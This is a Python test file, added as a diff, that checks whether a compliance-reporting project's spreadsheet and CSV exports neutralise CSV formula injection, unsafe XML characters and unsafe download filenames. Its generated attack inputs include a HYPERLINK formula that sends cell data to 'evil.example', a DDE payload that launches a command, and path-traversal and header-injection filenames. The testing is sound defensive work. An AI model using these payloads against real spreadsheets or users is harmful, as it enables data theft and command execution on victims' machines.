@@ -1,0 +1,158 @@
+"""Output safety (rules.md R-SEC; OWASP CSV injection; XML 1.0): no text from an export reaches a
+spreadsheet or CSV as something a spreadsheet would evaluate, and no text stops a file being written.
+The attacks are generated (hypothesis), then every sheet of a workbook and both downloads are scanned."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+import zipfile
+
+import duckdb
+import pytest
+from hypothesis import HealthCheck, Phase, given, settings, strategies as st
+from openpyxl import Workbook, load_workbook
+
+from core.output import CUT_MARK, ERROR_CODES, FORMULA_START, MAX_CHARS, safe_filename, safe_text, safe_text_sql
+from dashboards import views
+from modelkit import build
+from orchestration.publish import publish
+from reports.workbook import write_workbook
+
+T = dt.datetime
+XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
+
+# Text as a hostile or careless export carries it: formula starts (with control characters where
+# Excel would skip them), error codes, DDE payloads, characters XML cannot carry, fields past a
+# cell's size, and anything else Unicode holds (DuckDB's text is UTF-8: no lone surrogates).
+any_char = st.characters(exclude_categories=("Cs",))
+controls = st.sampled_from(["", "\x00", "\x0b", "\x0c", "\x1b", "\x1f", "\ufffe", "\uffff"])
+payloads = st.sampled_from(["=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"单位")', "+1", "-2+3", "@SUM(A1:A9)",
+                            "\t=1", "\r=1", "=cmd|' /C calc'!A0", "#N/A", "#DIV/0!", "'=quoted", "＝全角", "-"])
+hostile = st.one_of(
+    st.tuples(controls, payloads, st.text(any_char, max_size=12)).map("".join),
+    st.tuples(payloads, controls, st.text(any_char, max_size=12)).map("".join),
+    st.text(any_char, min_size=1, max_size=30),
+    st.tuples(st.sampled_from(FORMULA_START + ("汉", "𠮷")), st.integers(MAX_CHARS - 2, MAX_CHARS + 40))
+      .map(lambda t: t[0] * t[1]),
+)
+
+
+def is_live(value) -> bool:
+    """What a spreadsheet would evaluate, opening this as a cell's or a CSV field's text."""
+    return isinstance(value, str) and (value.startswith(FORMULA_START) or value in ERROR_CODES)
+
+
+@given(hostile)
+@settings(max_examples=300)
+def test_safe_text_leaves_nothing_live_or_unwritable(text):
+    out = safe_text(text)
+    assert not is_live(out) and not XML_FORBIDDEN.search(out) and len(out) <= MAX_CHARS
+    assert safe_text(out) == out  # made safe once, it stays as it is
+    kept = XML_FORBIDDEN.sub("", text)
+    # live text is shown with a leading apostrophe, never run; the rest is not altered; then cut
+    shown = "'" + kept if is_live(kept) else kept
+    assert out == (shown if len(shown) <= MAX_CHARS else shown[:MAX_CHARS - 1] + CUT_MARK)
+
+
+@given(st.lists(hostile, min_size=1, max_size=8))
+@settings(max_examples=60)
+def test_the_sql_twin_gives_the_same_text(texts):
+    con = duckdb.connect()
+    got = con.execute(f"select {safe_text_sql('v')} from unnest(?) with ordinality as t(v, i) order by i",
+                      [texts]).fetchall()
+    assert [r[0] for r in got] == [safe_text(t) for t in texts]
+    assert con.execute(f"select {safe_text_sql('null::varchar')}").fetchone()[0] is None
+
+
+@given(st.lists(hostile, min_size=1, max_size=6))
+@settings(max_examples=40, deadline=None)
+def test_a_spreadsheet_and_a_csv_take_safe_text_as_text(texts):
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet("s")
+    for text in texts:
+        ws.append([safe_text(text)])
+    buf = io.BytesIO()
+    wb.save(buf)
+    back = load_workbook(io.BytesIO(buf.getvalue())).active
+    assert not any(c.data_type in ("f", "e") for (c,) in back.iter_rows())
+    assert [c.value for (c,) in back.iter_rows()] == [safe_text(t) or None for t in texts]
+    out = io.StringIO()
+    csv.writer(out).writerows([safe_text(t)] for t in texts)
+    assert [r[0] for r in csv.reader(io.StringIO(out.getvalue()))] == [safe_text(t) for t in texts]
+
+
+@pytest.mark.parametrize("name, want", [
+    ("violations_all_2025.csv", "violations_all_2025.csv"),
+    ("../../etc/passwd", "_.._etc_passwd"),
+    ('a"b\r\nContent-Type: x.csv', "a_b_Content-Type_ x.csv"),
+    ("问题清单_2025Q3.xlsx", "问题清单_2025Q3.xlsx"),
+    ("..", "download"),
+])
+def test_download_names_carry_no_path_quote_or_header_break(name, want):
+    assert safe_filename(name) == want
+
+
+# --- every sheet of a workbook and both downloads, from hostile data through the models --------
+
+def scan_xlsx(data: bytes) -> int:
+    """Every cell of every sheet: none a formula, an error or text a spreadsheet would evaluate.
+    Returns how many text cells were read."""
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    seen = 0
+    for ws in load_workbook(io.BytesIO(data)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
+                assert not is_live(cell.value), (ws.title, cell.coordinate, cell.value)
+                seen += isinstance(cell.value, str)
+    return seen
+
+
+def hostile_world(text: list[str]) -> dict[str, list[dict]]:
+    """A unit, officer, device, case and recording whose every text comes from the attack, and a
+    recording never uploaded (an R-UPL finding naming them all)."""
+    unit, officer, device, case, media, party, name, case2 = text
+    return {
+        "units": [{"unit_id": unit, "unit_name": name, "rule_profile": "hebei"}],
+        "officers": [{"officer_id": officer, "name": name, "unit_id": unit}],
+        "devices": [{"device_id": device, "device_type": "body_camera", "unit_id": unit, "officer_id": officer,
+                     "in_service_from": dt.date(2024, 1, 1)}],
+        "cases": [{"case_id": c, "unit_id": unit, "case_type": "penalty", "procedure": "general",
+                   "source": "complaint", "party_name": party, "opened_at": T(2025, 3, 1, 9),
+                   "closed_at": T(2025, 3, 2, 9)} for c in dict.fromkeys([case, case2])],
+        "media": [{"media_id": media, "device_id": device, "officer_id": officer, "case_id": case,
+                   "recorded_start": T(2025, 3, 1, 9), "recorded_end": T(2025, 3, 1, 10), "sha256": "a" * 64,
+                   "size_bytes": 1}],
+    }
+
+
+@given(st.lists(hostile, min_size=8, max_size=8, unique=True))
+# each example builds every model: a few, not shrunk (a failure prints the texts that made it)
+@settings(max_examples=4, deadline=None, phases=[Phase.explicit, Phase.generate],
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_workbook_and_downloads_of_hostile_data_hold_nothing_live(tmp_path_factory, text):
+    root = tmp_path_factory.mktemp("hostile")
+    con = duckdb.connect(str(root / "wh.duckdb"))
+    build(con, hostile_world(text))
+    assert con.execute("select count(*) from fct_violations").fetchone()[0] > 0
+    snapshot = publish(con, root / "wh.duckdb")
+    con.close()
+    for lang in ("zh", "en"):
+        write_workbook(snapshot, "2025", root / f"{lang}.xlsx", lang=lang, unmask=True)
+        assert scan_xlsx((root / f"{lang}.xlsx").read_bytes()) > 50
+    filters = {"period_type": "year", "period": "2025", "lang": "zh"}
+    body, written, _ = views.export_xlsx(snapshot, filters, "zh", None, filter_query=text[0], unmask=True)
+    assert written > 0 and scan_xlsx(body)
+    text_csv = "".join(views.export_csv(snapshot, filters, "zh", None, unmask=True))
+    fields = list(csv.reader(io.StringIO(text_csv, newline="")))
+    assert len(fields) == written + 1
+    assert not any(is_live(v) or XML_FORBIDDEN.search(v) for row in fields for v in row)
+    # what was written is the text delivered, made safe, not something else
+    cells = {v for row in fields for v in row}
+    assert safe_text(text[4]) in cells  # the recording's id
